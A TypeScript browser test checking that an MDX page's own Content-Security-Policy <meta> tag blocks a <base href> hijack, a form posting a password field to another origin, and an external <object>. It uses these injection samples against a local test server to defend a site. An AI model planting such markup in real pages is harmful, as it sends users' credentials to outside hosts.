// The page's own policy holds where no _headers file is read (GitHub Pages, Apache, nginx): an MDX page is code, not
// held to the content policy, so even what it might smuggle in (a <base> to another site, a form that posts
// elsewhere, a plugin) must be stopped by the Content-Security-Policy in the page's <meta>.
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, serve } from '../test/helpers/browser';
import { readFixture, type BuildResult } from '../test/helpers/build';
import { build } from '../test/helpers/sites';

/** Another origin (another port), which records every request that reaches it. */
let elsewhere: { url: string; requests: string[]; close: () => Promise<void> };
let built: BuildResult;
let site: { url: string; close: () => Promise<void> };
let browser: Browser;

beforeAll(async () => {
  const requests: string[] = [];
  const server = createServer((request: IncomingMessage, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'text/html' }).end('<p>elsewhere</p>');
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  elsewhere = { url: origin, requests, close: () => new Promise((closed) => server.close(() => closed())) };
  built = await build({
    content: {
      ...(await readFixture('lab')),
      'pages/trusted.mdx': [
        '---',
        'title: Trusted code',
        'permalink: /trusted/',
        '---',
        '',
        `<base href="${origin}/" />`,
        '',
        '<a id="join" href="/join-us/">Join us</a>',
        '',
        `<form id="steal" action="${origin}/collect" method="post"><input name="password" value="secret" /><button id="send" type="submit">Send</button></form>`,
        '',
        `<object id="plugin" data="${origin}/plugin" type="text/html" width="10" height="10"></object>`,
        '',
      ].join('\n'),
    },
    env: { SITE_NOW: '2024-01-15' },
  });
  if (!built.ok) throw new Error(built.output);
  [site, browser] = await Promise.all([serve(join(built.dir, 'dist'), { headers: false }), launchChromium()]);
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
  await elsewhere?.close();
  await built?.cleanup();
});

describe('served without _headers, an MDX page is held back by its own policy', () => {
  it('keeps links on the site, sends no form elsewhere and loads no object', async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' && /Content Security Policy/i.test(message.text()))
        violations.push(message.text());
    });
    await page.goto(`${site.url}/trusted/`);
    // The page itself was served without a policy header: the <meta> is all there is.
    expect(await page.locator('meta[http-equiv="content-security-policy"]').count()).toBe(1);

    // <base href> to another site is ignored: the link still leads to the site's own page.
    expect(await page.evaluate(() => document.baseURI)).toBe(`${site.url}/trusted/`);
    expect(await page.locator('#join').evaluate((link: HTMLAnchorElement) => link.href)).toBe(`${site.url}/join-us/`);

    // The form does not post to the other site: the browser blocks it, and the page stays.
    await page.locator('#steal').evaluate((form: HTMLFormElement) => form.requestSubmit());
    await page.waitForTimeout(500);
    expect(page.url()).toBe(`${site.url}/trusted/`);

    // Nothing reached the other site: no form post, no object.
    expect(elsewhere.requests).toEqual([]);
    expect(violations.join('\n')).toMatch(/base-uri/);
    expect(violations.join('\n')).toMatch(/form-action/);
    expect(violations.join('\n')).toMatch(/object-src/);
    await page.close();
  });
});
